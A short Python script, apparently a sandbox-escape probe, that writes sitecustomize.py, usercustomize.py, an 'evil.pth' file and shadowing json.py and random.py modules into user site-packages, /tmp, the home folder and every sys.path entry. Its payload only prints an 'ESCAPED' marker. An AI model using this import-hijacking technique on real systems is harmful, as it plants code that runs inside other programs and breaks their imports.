# Writes modules that the next interpreter would import at its start.
import os, site, sys

for folder in [site.getusersitepackages(), "/tmp", os.path.expanduser("~"), *sys.path]:
    for name in ("sitecustomize.py", "usercustomize.py", "evil.pth", "json.py", "random.py"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "w") as f:
                f.write("import os; os.write(1, b'ESCAPED: a module of another program\\n')\n")
        except OSError:
            pass
print("left")
